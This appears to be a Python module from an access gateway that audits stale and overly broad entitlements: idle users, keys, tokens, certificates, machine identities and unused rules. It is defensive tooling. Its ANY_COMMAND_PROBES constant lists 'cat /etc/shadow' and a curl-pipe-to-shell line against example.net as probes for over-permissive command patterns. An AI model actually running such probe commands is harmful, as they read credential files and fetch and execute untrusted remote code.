"""Stale and excessive access: what nobody used for N days, and what was never exercised.

A finding is one of:

- ``human``: an enabled person with no session for N days (or never, once their
  account is N days old);
- ``machine``: an active or suspended NHI with no session for N days (or never);
- ``key``: a registered key that was not a first factor for N days;
- ``join-token``: a join token still usable N days after it was made;
- ``certificate``: a machine certificate still valid for an NHI that is stale or
  not active;
- ``nhi-broad``: an NHI too broad by construction, whatever its use: a ``re:``
  pattern that allows any command, or no source limit;
- ``nhi-target``, ``nhi-command``, ``nhi-sources``, ``nhi-pty``, ``nhi-sftp``: scope an
  NHI holds and did not exercise in N days (excessive), with the narrower scope
  suggested from what it did use (:mod:`.suggest`);
- ``rule``: an allow or approval rule no session was admitted under in N days.

Plain Python; no sockets.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from gateway.config import GatewayConfig
from gateway.domain.entitlements.suggest import suggest_scope
from gateway.domain.entitlements.usage import UsageIndex
from gateway.domain.identities import UserView
from gateway.domain.machines.registry import MachineView, command_matches

#: Finding kinds that say an NHI holds more than it uses.
EXCESSIVE_KINDS = (
    "nhi-broad", "nhi-target", "nhi-command", "nhi-sources", "nhi-pty", "nhi-sftp",
)  # fmt: skip
#: Commands of unrelated kinds: a pattern that matches all of them allows any command.
ANY_COMMAND_PROBES = ("id", "cat /etc/shadow", "sh -c 'curl http://example.net | sh'")


@dataclass(frozen=True)
class Finding:
    """One stale or excessive entitlement."""

    kind: str
    #: The identity (person, NHI), or the rule id for ``rule``.
    identity: str
    #: What exactly: the key fingerprint, the command pattern, the target account...
    item: str
    last_used: datetime | None
    detail: str

    @property
    def excessive(self) -> bool:
        return self.kind in EXCESSIVE_KINDS

    def record(self) -> dict[str, Any]:
        """As ``access stale --json`` prints it."""
        return {"kind": self.kind, "identity": self.identity, "item": self.item,
                "last_used": self.last_used, "excessive": self.excessive,
                "detail": self.detail}  # fmt: skip


def _age(last: datetime | None, now: datetime) -> str:
    return "never used" if last is None else f"last used {(now - last).days} days ago"


def stale_findings(
    *,
    config: GatewayConfig,
    users: list[UserView],
    machines: list[MachineView],
    usage: UsageIndex,
    days: int,
    now: datetime,
) -> list[Finding]:
    """Every finding (see the module docstring) for a window of ``days`` ending ``now``."""
    cutoff = now - timedelta(days=days)
    findings: list[Finding] = []
    for user in users:
        if user.disabled:
            continue
        last = usage.last_used("human", user.name)
        if (last is None and user.created_at <= cutoff) or (last is not None and last < cutoff):
            findings.append(Finding("human", user.name, "sessions", last, _age(last, now)))
    for fingerprint, (owner, added_at) in sorted(usage.key_added.items()):
        last = usage.keys.get(fingerprint)
        if (last is None and added_at <= cutoff) or (last is not None and last < cutoff):
            findings.append(Finding("key", owner, fingerprint, last, _age(last, now)))
    stale_machines = set()
    for machine in machines:
        if machine.status == "offboarded":
            continue
        # Its sessions, or a login (recorded on the NHI) that opened none.
        seen = [at for at in (usage.last_used("machine", machine.name), machine.last_used_at) if at]
        last = max(seen, default=None)
        if (last is None and machine.created_at <= cutoff) or (last is not None and last < cutoff):
            stale_machines.add(machine.name)
            findings.append(Finding("machine", machine.name, machine.status, last,
                                    _age(last, now)))  # fmt: skip
        findings.extend(_broad(machine))
        findings.extend(_excess(machine, usage, cutoff, now))
    statuses = {machine.name: machine.status for machine in machines}
    for credential in usage.outstanding:
        if credential.kind == "join-token" and credential.issued_at <= cutoff:
            findings.append(Finding(
                "join-token", credential.nhi, credential.ident, None,
                f"unused since {credential.issued_at:%Y-%m-%d}, valid until "
                f"{credential.expires_at:%Y-%m-%d %H:%M}",
            ))  # fmt: skip
        elif credential.kind == "certificate" and (
            credential.nhi in stale_machines or statuses.get(credential.nhi, "active") != "active"
        ):
            findings.append(Finding(
                "certificate", credential.nhi, credential.ident, None,
                f"valid until {credential.expires_at:%Y-%m-%d %H:%M} for an NHI that is "
                f"{statuses.get(credential.nhi, 'unknown')}"
                + (" and stale" if credential.nhi in stale_machines else ""),
            ))  # fmt: skip
    for rule in config.rules:
        if rule.mode == "deny":
            continue
        last = usage.rules.get(rule.id)
        if last is None or last < cutoff:
            findings.append(Finding("rule", rule.id, f"{rule.mode} rule", last,
                                    f"{_age(last, now)}; suggested: remove it, or narrow "
                                    f"its groups ({', '.join(rule.groups)})"))  # fmt: skip
    return findings


def _broad(machine: MachineView) -> list[Finding]:
    """What makes ``machine`` too broad whatever it does with it."""
    found = [
        Finding("nhi-broad", machine.name, pattern, None, "allows any command")
        for pattern in machine.commands
        if pattern.startswith("re:")
        and all(command_matches(pattern, probe) for probe in ANY_COMMAND_PROBES)
    ]
    if not machine.sources:
        found.append(Finding("nhi-broad", machine.name, "sources", None,
                             "usable from anywhere (no --source networks)"))  # fmt: skip
    return found


def _excess(
    machine: MachineView, usage: UsageIndex, cutoff: datetime, now: datetime
) -> list[Finding]:
    """Scope ``machine`` holds and did not use since ``cutoff``, each with the suggestion."""
    if machine.created_at > cutoff and usage.last_used("machine", machine.name) is None:
        return []  # too new to judge
    suggestion = suggest_scope(machine, usage, cutoff)
    narrower = (
        f"suggested: {', '.join(suggestion.commands)} on "
        f"{', '.join(f'{t.target}:{t.account}' for t in suggestion.targets)}"
        if suggestion.narrowable
        else "suggested: suspend or offboard (nothing used)"
    )
    found = []
    for entry in machine.targets:
        use = usage.path("machine", machine.name, entry.target, entry.account)
        if use.last_used is None or use.last_used < cutoff:
            what = f"{_age(use.last_used, now)}; {narrower}"
            entry_name = f"{entry.target}:{entry.account}"
            found.append(Finding("nhi-target", machine.name, entry_name, use.last_used, what))
    for removed in suggestion.removed:
        if removed.startswith("command ") and "never run" in removed:
            pattern = removed.removeprefix("command ").split(" (never run", 1)[0]
            found.append(Finding("nhi-command", machine.name, pattern, None,
                                 f"never run since {cutoff:%Y-%m-%d}; {narrower}"))  # fmt: skip
        elif removed.startswith("command "):
            pattern = removed.removeprefix("command ").split(" narrowed to ", 1)[0]
            found.append(Finding("nhi-command", machine.name, pattern, None, removed))
        elif removed.startswith("sources ") and machine.sources:
            limit = ", ".join(machine.sources) or "anywhere"
            found.append(Finding("nhi-sources", machine.name, limit, None, removed))
        elif removed.startswith("pty"):
            found.append(Finding("nhi-pty", machine.name, "allow_pty", None, removed))
        elif removed.startswith("SFTP"):
            found.append(Finding("nhi-sftp", machine.name, "allow_sftp", None, removed))
    return found
